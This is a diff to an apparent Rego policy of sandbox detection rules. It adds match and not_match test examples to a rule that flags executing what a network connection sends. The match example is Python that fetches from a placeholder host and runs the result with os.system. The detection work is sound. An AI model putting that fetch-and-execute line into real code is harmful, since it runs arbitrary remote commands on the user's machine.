@@ -255,6 +255,10 @@ findings contains {"id": "SBX-EXEC-0010", "at": a.at, "msg": sprintf("%s", [conc
 #   cwe: ["CWE-94"]
 #   attack: ["T1059", "T1071"]
 #   remediation: "Run commands through the sandbox's own interface."
+#   match:
+#     - {"language": "python", "code": "import os, urllib.request\nos.system(urllib.request.urlopen('http://x.test').read().decode())"}
+#   not_match:
+#     - {"language": "python", "code": "import subprocess, urllib.request\nsubprocess.run(['svn', 'info', urllib.request.urlopen('http://x.test').read().decode()])"}
 findings contains {"id": "SBX-EXEC-0011", "at": s.at, "msg": sprintf("what a connection sends is run %s", [s.detail])} if {
 	some kind in ["recv_exec"]
 	some s in input.structs[kind]
